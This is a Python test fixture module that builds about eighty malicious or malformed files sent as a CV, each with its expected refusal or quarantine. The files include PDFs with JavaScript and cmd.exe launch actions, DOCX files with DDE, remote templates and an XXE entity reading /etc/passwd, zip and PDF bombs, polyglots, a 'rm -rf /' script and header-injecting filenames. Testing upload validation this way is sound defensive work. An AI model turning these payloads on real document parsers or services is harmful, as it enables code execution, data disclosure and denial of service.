"""Sixty files that somebody might send instead of a CV, each made by code, and what is to become of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfWriter

from tenants.files.adapters.local import SIGNATURES
from tenants.files.reasons import Refusal
from tests.tenants.files.documents import (
    OFFICE,
    RELATIONS,
    assembled,
    attached,
    docx,
    docx_parts,
    odt,
    odt_parts,
    pdf,
    zipped,
)

KEPT, QUARANTINED = "kept", "quarantined"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
EICAR = SIGNATURES["Eicar-Test-Signature"]
EUROPASS = b'<?xml version="1.0"?><SkillsPassport xmlns="http://europass.cedefop.europa.eu/Europass"/>'
HTML = b"<html><script>alert(1)</script></html>"
LONG_LINES = [f"Ligne {number} : conduite de ligne et contrôle" for number in range(40)]


@dataclass(frozen=True)
class Hostile:
    """called: the name it is sent under; becomes: a refusal, KEPT harmlessly or QUARANTINED."""

    called: str
    make: Callable[[], bytes]
    becomes: Refusal | str


def _docx(**more: bytes | str) -> bytes:
    return zipped({**docx_parts(), **more})


def _docx_rel(kind: str, target: str, mode: str = "External") -> bytes:
    parts = docx_parts()
    parts["word/_rels/document.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return zipped(parts)


def _docx_body(inner: str, head: str = "") -> bytes:
    parts = docx_parts()
    document = str(parts["word/document.xml"])
    document = document.replace("?>", f"?>{head}", 1).replace("</w:body>", f"{inner}</w:body>")
    return zipped({**parts, "word/document.xml": document})


def _odt(change: Callable[[str], str] = lambda text: text, **more: bytes | str) -> bytes:
    parts = odt_parts()
    parts["content.xml"] = change(str(parts["content.xml"]))
    return zipped({**parts, **more}, stored=["mimetype"])


def _raw_zip(entries: list[tuple[bytes, bytes, bytes, int]], *, offsets: list[int] | None = None) -> bytes:
    """An archive by hand: (name, packed, claimed sum, claimed size); `offsets` overrides where the table points."""
    out, table = b"", b""
    for number, (name, packed, crc, size) in enumerate(entries):
        place = offsets[number] if offsets else len(out)
        head = struct.pack("<HHHHH4sIIHH", 20, 0, 8, 0, 33, crc, len(packed), size, len(name), 0)
        out += b"PK\x03\x04" + head + name + packed
        table += b"PK\x01\x02" + struct.pack("<H", 20) + head + bytes(10) + struct.pack("<I", place) + name
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(table), len(out), 0)
    return out + table + b"PK\x05\x06" + end


def _deflated(content: bytes) -> bytes:
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    return machine.compress(content) + machine.flush()


def _overlapping() -> bytes:
    """A hundred parts that are all the same bytes: small to send, large to unpack."""
    packed = _deflated(b" " * 400_000)
    crc = struct.pack("<I", zlib.crc32(b" " * 400_000))
    names = [b"[Content_Types].xml", b"word/document.xml", *(b"word/p%d.xml" % n for n in range(100))]
    return _raw_zip([(name, packed, crc, 400_000) for name in names], offsets=[0] * len(names))


def _lying_size() -> bytes:
    """The table says 10 bytes, out come 90 million."""
    packed = _deflated(b"<a>" + b" " * 90_000_000)
    return _raw_zip(
        [(b"[Content_Types].xml", packed, b"\0\0\0\0", 10), (b"word/document.xml", packed, b"\0\0\0\0", 10)]
    )


def _wrong_sum() -> bytes:
    content = docx()
    place = content.find(b"word/document.xml") + len(b"word/document.xml") + 20
    return content[:place] + bytes([content[place] ^ 0x55]) + content[place + 1 :]


def _encrypted_zip() -> bytes:
    content = bytearray(docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := content.find(sign, start)) >= 0:
            content[start + place] |= 1
            start += 4
    return bytes(content)


def _many_parts() -> bytes:
    return zipped({**docx_parts(), **{f"word/media/{n}.png": b"" for n in range(5_000)}})


def _twice() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        archive.writestr("Word/Document.xml", "<x/>")
    return target.getvalue()


def _elements(many: int) -> bytes:
    """What took python-docx 37 s and a gigabyte: a body of nothing but runs."""
    runs = "".join(f"<w:r><w:t>{number * 7919 % 1_000_003}</w:t></w:r>" for number in range(many))
    return _docx_body(f"<w:p>{runs}</w:p>")


def _locked_pdf(user: str, algorithm: str = "RC4-128") -> bytes:
    writer, target = PdfWriter(), io.BytesIO()
    writer.add_blank_page(595, 842)
    writer.encrypt(user, "owner", algorithm=algorithm)
    writer.write(target)
    return target.getvalue()


def _packed_object(inner: bytes) -> bytes:
    """An object that is named in no plain text: within a deflated stream of objects."""
    stream = b"4 0 " + inner
    packed = zlib.compress(stream)
    content = (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>\nendobj\n"
    )
    places = [content.find(b"%d 0 obj" % n) for n in (1, 2, 3)]
    places.append(len(content))
    content += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed)
    content += packed + b"\nendstream\nendobj\n"
    table = len(content)
    rows = [(0, 0, 65535), *((1, places[n], 0) for n in range(3)), (2, 5, 0), (1, places[3], 0), (1, table, 0)]
    body = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    content += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d /Filter /FlateDecode >>\nstream\n"
        % len(body)
    )
    return content + body + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table


def _pdf_bomb(layers: int) -> bytes:
    content = bytes(300_000_000) if layers == 1 else bytes(2_000_000_000 // 8)
    for _ in range(layers):
        content = zlib.compress(content, 9)
    filters = b"[" + b" /FlateDecode" * layers + b"]"
    return assembled([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>",
        b"<< /Length %d /Filter %s >>\nstream\n%s\nendstream" % (len(content), filters, content),
    ])  # fmt: skip


def _deep_pdf() -> bytes:
    return pdf(extra=[b"[" * 20_000 + b"]" * 20_000])


def _page_loop() -> bytes:
    return assembled([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9999999 >>",
    ])  # fmt: skip


def _table_loop() -> bytes:
    content = pdf()
    place = content.find(b"xref\n0")
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % place)


def _zip_in_comment() -> bytes:
    """An archive whose last note is a whole PDF: one reader sees this, another that."""
    inner = zipped({"evil.js": "alert(1)"})
    note = pdf()
    return inner[:-2] + struct.pack("<H", min(len(note), 65_535)) + note


def _pdf_in_archive() -> bytes:
    return pdf()[:-6] + zipped({"evil.exe": b"MZ" + bytes(100)}) + b"%%EOF\n"


_BILLION = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(8)
) + "]>"  # fmt: skip
_READS_A_FILE = '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
_FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:p>'
_XLINK = ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
_SCRIPT = ' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'


def _odt_element(element: str, spaces: str) -> bytes:
    return _odt(
        lambda text: text.replace("<office:text>", f"<office:text>{element}").replace(
            "<office:document-content ", f"<office:document-content {spaces} "
        )
    )


HOSTILE: dict[str, Hostile] = {
    # Nothing, too little, too much
    "nothing at all": Hostile("cv.pdf", lambda: b"", Refusal.EMPTY),
    "blanks": Hostile("cv.pdf", lambda: b" \r\n" * 100, Refusal.EMPTY),
    "zeros": Hostile("cv.docx", lambda: bytes(5_000), Refusal.EMPTY),
    "six megabytes": Hostile("cv.pdf", lambda: pdf() + bytes(6_000_000), Refusal.TOO_BIG),
    # Called a CV
    "a program": Hostile("cv.pdf", lambda: b"MZ\x90\x00" + bytes(4_000) + b"PE", Refusal.UNKNOWN),
    "an ELF program": Hostile("cv.pdf", lambda: b"\x7fELF\x02\x01" + bytes(4_000), Refusal.UNKNOWN),
    "a shell script": Hostile("cv.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", Refusal.UNKNOWN),
    "a page": Hostile("cv.pdf", lambda: HTML, Refusal.UNKNOWN),
    "a page behind a byte order mark": Hostile("cv.docx", lambda: b"\xef\xbb\xbf" + HTML, Refusal.UNKNOWN),
    "a drawing with a script": Hostile(
        "cv.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', Refusal.UNKNOWN
    ),
    "an old Word document": Hostile("cv.doc", lambda: OLE, Refusal.OLD_WORD),
    "a DOCX under a password": Hostile("cv.docx", lambda: OLE + b"EncryptedPackage", Refusal.OLD_WORD),
    "an RTF": Hostile("cv.docx", lambda: b"{\\rtf1\\ansi {\\object\\objocx}}", Refusal.RTF),
    "a photograph": Hostile("cv.pdf", lambda: b"\xff\xd8\xff\xe0" + bytes(5_000), Refusal.IMAGE),
    "a spreadsheet": Hostile("cv.docx", lambda: zipped({"xl/workbook.xml": "<x/>"}), Refusal.UNKNOWN),
    "a Java archive": Hostile("cv.odt", lambda: zipped({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), Refusal.UNKNOWN),
    # PDF
    "a PDF cut short": Hostile("cv.pdf", lambda: pdf(LONG_LINES)[:-200], Refusal.DAMAGED),
    "a PDF of a head alone": Hostile("cv.pdf", lambda: b"%PDF-1.7\n%%EOF\n", Refusal.DAMAGED),
    "a PDF of noise": Hostile("cv.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 200 + b"%%EOF", Refusal.DAMAGED),
    "a PDF behind a page": Hostile("cv.pdf", lambda: HTML + pdf(), Refusal.TWO_IN_ONE),
    "a PDF behind some bytes": Hostile("cv.pdf", lambda: b"GARBAGE\n" + pdf(), Refusal.TWO_IN_ONE),
    "a PDF with a page in its head": Hostile(
        "cv.pdf", lambda: pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1), Refusal.TWO_IN_ONE
    ),
    "a PDF with an archive behind": Hostile("cv.pdf", lambda: pdf() + zipped({"a.js": "x"}), Refusal.TWO_IN_ONE),
    "a PDF with an archive within": Hostile("cv.pdf", _pdf_in_archive, Refusal.TWO_IN_ONE),
    "a PDF with a page behind": Hostile("cv.pdf", lambda: pdf() + HTML, Refusal.TWO_IN_ONE),
    "a PDF with a program behind": Hostile("cv.pdf", lambda: pdf() + b"MZ" + b"\x90" * 9_000, Refusal.TWO_IN_ONE),
    "a PDF that runs JavaScript": Hostile(
        "cv.pdf", lambda: pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), Refusal.ACTIVE
    ),
    "a PDF that hides its JavaScript's name": Hostile(
        "cv.pdf", lambda: pdf(catalog="/OpenAction << /S /J#61vaScript /J#53 (x) >>"), Refusal.ACTIVE
    ),
    "a PDF with JavaScript in a packed object": Hostile(
        "cv.pdf", lambda: _packed_object(b"<< /S /JavaScript /JS (app.alert(1)) >>"), Refusal.ACTIVE
    ),
    "a PDF with JavaScript that no table mentions": Hostile(
        "cv.pdf",
        lambda: pdf().replace(b"xref\n", b"99 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\nxref\n", 1),
        Refusal.ACTIVE,
    ),
    "a PDF that starts a program": Hostile(
        "cv.pdf", lambda: pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), Refusal.ACTIVE
    ),
    "a PDF that sends a form": Hostile(
        "cv.pdf", lambda: pdf(catalog="/AA << /WC << /S /SubmitForm /F (http://x.example) >> >>"), Refusal.ACTIVE
    ),
    "a PDF that opens another file": Hostile(
        "cv.pdf", lambda: pdf(catalog=r"/OpenAction << /S /GoToR /F (\\\\x.example\\s\\a.pdf) >>"), Refusal.ACTIVE
    ),
    "a PDF with a program attached": Hostile("cv.pdf", lambda: attached("a.exe", b"MZ" + bytes(99)), Refusal.ACTIVE),
    "a PDF with some XML attached": Hostile("cv.pdf", lambda: attached("europass.xml", b"<x/>"), Refusal.ACTIVE),
    "a PDF under a password": Hostile("cv.pdf", lambda: _locked_pdf("secret"), Refusal.LOCKED),
    "a PDF that forbids copying": Hostile("cv.pdf", lambda: _locked_pdf(""), Refusal.LOCKED),
    "a PDF that inflates to 300 MB": Hostile("cv.pdf", lambda: _pdf_bomb(1), Refusal.BOMB),
    "a PDF that inflates three times": Hostile("cv.pdf", lambda: _pdf_bomb(3), Refusal.BOMB),
    "a PDF with its Europass data": Hostile("cv.pdf", lambda: attached("europass.xml", EUROPASS), KEPT),
    "a PDF of 20,000 nested lists": Hostile("cv.pdf", _deep_pdf, Refusal.TOO_COMPLEX),
    "a PDF whose pages are their own children": Hostile("cv.pdf", _page_loop, Refusal.DAMAGED),
    "a PDF whose table refers to itself": Hostile("cv.pdf", _table_loop, KEPT),
    # DOCX
    "a DOCM": Hostile(
        "cv.docx",
        lambda: zipped(docx_parts(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
        Refusal.MACROS,
    ),
    "a DOTM": Hostile(
        "cv.docx",
        lambda: zipped(docx_parts(main="application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
        Refusal.MACROS,
    ),
    "a DOCX with macros": Hostile("cv.docx", lambda: _docx(**{"word/vbaProject.bin": OLE}), Refusal.MACROS),
    "a DOCX with a control": Hostile("cv.docx", lambda: _docx(**{"word/activeX/activeX1.bin": b"x"}), Refusal.MACROS),
    "a DOCX with a program inside": Hostile(
        "cv.docx", lambda: _docx(**{"word/media/1.png": b"MZ" + bytes(99)}), Refusal.TWO_IN_ONE
    ),
    "a DOCX with a DOCX inside": Hostile(
        "cv.docx", lambda: _docx(**{"word/embeddings/1.docx": docx()}), Refusal.TWO_IN_ONE
    ),
    "a DOCX with a template from afar": Hostile(
        "cv.docx", lambda: _docx_rel("attachedTemplate", "https://x.example/a.dotm"), Refusal.OUTSIDE
    ),
    "a DOCX with a template from a share": Hostile(
        "cv.docx", lambda: _docx_rel("attachedTemplate", r"\\x.example\s\a.dotm"), Refusal.OUTSIDE
    ),
    "a DOCX with an object from afar": Hostile(
        "cv.docx", lambda: _docx_rel("oleObject", "mhtml:https://x.example/a!x-usc:b"), Refusal.OUTSIDE
    ),
    "a DOCX with a picture from afar": Hostile(
        "cv.docx", lambda: _docx_rel("image", "http://x.example/1"), Refusal.OUTSIDE
    ),
    "a DOCX with a script for a link": Hostile(
        "cv.docx", lambda: _docx_rel("hyperlink", "javascript:x"), Refusal.OUTSIDE
    ),
    "a DOCX that asks for data": Hostile(
        "cv.docx",
        lambda: _docx_body(_FIELD.format(r"DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe")),
        Refusal.OUTSIDE,
    ),
    "a DOCX of a billion laughs": Hostile("cv.docx", lambda: _docx_body("&i;", head=_BILLION), Refusal.DAMAGED),
    "a DOCX that reads a file": Hostile("cv.docx", lambda: _docx_body("&file;", head=_READS_A_FILE), Refusal.DAMAGED),
    "a DOCX of 180,000 runs": Hostile("cv.docx", lambda: _elements(180_000), Refusal.TOO_COMPLEX),
    "a DOCX of 40,000 nested boxes": Hostile(
        "cv.docx", lambda: _docx_body("<w:p>" * 40_000 + "</w:p>" * 40_000), Refusal.TOO_COMPLEX
    ),
    "a DOCX that inflates to 200 MB": Hostile(
        "cv.docx", lambda: _docx(**{"word/media/1.png": bytes(200_000_000)}), Refusal.BOMB
    ),
    "a DOCX whose sizes lie": Hostile("cv.docx", _lying_size, Refusal.DAMAGED),
    "a DOCX of overlapping parts": Hostile("cv.docx", _overlapping, Refusal.BOMB),
    "a DOCX of 5,000 parts": Hostile("cv.docx", _many_parts, Refusal.BOMB),
    "a DOCX with a part named outside": Hostile("cv.docx", lambda: _docx(**{"../../x": "x"}), Refusal.DAMAGED),
    "a DOCX with a part twice": Hostile("cv.docx", _twice, Refusal.DAMAGED),
    "a DOCX whose sum is wrong": Hostile("cv.docx", _wrong_sum, Refusal.DAMAGED),
    "a DOCX cut short": Hostile("cv.docx", lambda: docx(LONG_LINES)[:-30], Refusal.DAMAGED),
    "a DOCX with parts under a password": Hostile("cv.docx", _encrypted_zip, Refusal.LOCKED),
    "a DOCX with a page behind": Hostile("cv.docx", lambda: docx() + HTML, Refusal.TWO_IN_ONE),
    "an archive whose note is a PDF": Hostile("cv.pdf", _zip_in_comment, Refusal.UNKNOWN),
    # ODT
    "an ODT with Basic": Hostile("cv.odt", lambda: _odt(**{"Basic/Standard/Module1.xml": "<x/>"}), Refusal.MACROS),
    "an ODT with Python": Hostile("cv.odt", lambda: _odt(**{"Scripts/python/a.py": "x"}), Refusal.MACROS),
    "an ODT that runs when opened": Hostile(
        "cv.odt", lambda: _odt_element('<script:event-listener script:event-name="dom:load"/>', _SCRIPT), Refusal.MACROS
    ),
    "an ODT with a picture from afar": Hostile(
        "cv.odt", lambda: _odt_element('<draw:image xlink:href="http://x.example/1"/>', _XLINK), Refusal.OUTSIDE
    ),
    "an ODT with a text from a share": Hostile(
        "cv.odt", lambda: _odt_element('<draw:object xlink:href="file://x.example/s/a.odt"/>', _XLINK), Refusal.OUTSIDE
    ),
    "an ODT under a password": Hostile(
        "cv.odt", lambda: _odt(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}), Refusal.LOCKED
    ),
    "an ODT of a billion laughs": Hostile(
        "cv.odt", lambda: _odt(lambda text: text.replace("?>", f"?>{_BILLION}", 1)), Refusal.DAMAGED
    ),
    "an ODT that inflates": Hostile("cv.odt", lambda: _odt(**{"Pictures/1.png": bytes(100_000_000)}), Refusal.BOMB),
    # Looks right, is not
    "a PDF with EICAR in a text": Hostile(
        "cv.pdf", lambda: pdf([EICAR.decode()]).replace(b"%\xe2", b"%" + EICAR + b"\xe2"), QUARANTINED
    ),
    "a PDF with a signature deflated": Hostile("cv.pdf", lambda: pdf(["BASSIN-TEST-" + "SIGNATURE-1"]), QUARANTINED),
    "a DOCX with EICAR": Hostile("cv.docx", lambda: _docx(**{"docProps/note.txt": EICAR}), QUARANTINED),
    "an ODT with a signature": Hostile("cv.odt", lambda: odt(["BASSIN-TEST-" + "SIGNATURE-1"]), QUARANTINED),
    # Harmless, under a name that lies
    "a name that reads backwards": Hostile("cv\u202efdp.exe", pdf, KEPT),
    "a name of 300 letters": Hostile("x" * 300 + ".pdf", pdf, KEPT),
    "a name with a path": Hostile("..\\..\\windows\\system32\\cv.pdf", docx, KEPT),
    "a name that adds a header": Hostile('cv.pdf"\r\nContent-Type: text/html\r\n\r\n<script>.pdf', pdf, KEPT),
    "a PDF called a page": Hostile("cv.html", pdf, KEPT),
    "a PDF that speaks of JavaScript": Hostile(
        "cv.pdf", lambda: pdf(["HTML/JavaScript/JS", "<script>alert(1)</script>"]), KEPT
    ),
}
